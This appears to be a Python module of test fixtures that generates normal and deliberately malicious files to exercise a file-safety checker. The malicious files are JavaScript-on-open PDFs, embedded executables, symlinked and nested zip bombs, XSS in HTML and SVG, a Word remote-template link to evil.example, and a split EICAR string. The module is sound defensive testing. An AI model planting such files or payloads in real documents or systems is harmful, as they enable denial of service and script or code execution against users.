"""Files made for the tests: good ones, and one of each trick."""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Iterable

import pikepdf
from PIL import Image


def pdf(pages: int = 1, **options: object) -> bytes:
    """A plain PDF."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        for _n in range(pages):
            document.add_blank_page(page_size=(100, 100))
        document.save(out, **options)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A PDF that asks for a password."""
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="secret"))


def pdf_with(action: str) -> bytes:
    """A PDF that does something when it is opened."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        body = {"S": pikepdf.Name(action), "JS": "app.alert(1)"}
        document.Root.OpenAction = pikepdf.Dictionary(**body)
        document.save(out)
    return out.getvalue()


def pdf_with_file() -> bytes:
    """A PDF that carries another file."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["tool.exe"] = b"MZ"
        document.save(out)
    return out.getvalue()


def png(width: int = 4, height: int = 4) -> bytes:
    """A picture."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def jpeg() -> bytes:
    """A photo."""
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(out, "JPEG")
    return out.getvalue()


def archive(parts: Iterable[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    """A ZIP archive of those parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts:
            file.writestr(name, content)
    return out.getvalue()


def docx(*more: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """A Word file, with more parts than it should have."""
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    )
    return archive([("[Content_Types].xml", types), ("word/document.xml", b"<w:document/>"), *more])


def link(name: str) -> zipfile.ZipInfo:
    """A part that is a symbolic link."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def nested(levels: int, inner: bytes = b"the end") -> bytes:
    """Archives in archives."""
    for _n in range(levels):
        inner = archive([("inner.zip", inner)])
    return inner


def many(levels: int) -> bytes:
    """Sixteen archives in each archive, as 42.zip has them."""
    inner = bytes(4096)
    for _n in range(levels):
        inner = archive((f"{n}.zip", inner) for n in range(16))
    return inner


def locked(data: bytes) -> bytes:
    """The archive with the mark of a password on each of its parts."""
    found = bytearray(data)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = found.find(sign)
        while at >= 0:
            found[at + place] |= 1
            at = found.find(sign, at + 4)
    return bytes(found)


def twice() -> bytes:
    """A Word file in which one name stands twice."""
    return docx(("word/media/a.png", b"1"), ("word/media/A.png", b"2"))


def html(text: str = "<script>alert(1)</script>") -> bytes:
    """A web page."""
    return f"<!DOCTYPE html><html><body>{text}</body></html>".encode()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03" + bytes(200)
ZEROS_200_MB = bytes(200 * 1024 * 1024)
REMOTE = (
    "word/_rels/settings.xml.rels",
    b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
)
"""A part that fetches a template from elsewhere when the file is opened."""
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + "$H+H*").encode()
"""The harmless text every scanner calls a virus; in pieces, so that none finds it in this file."""
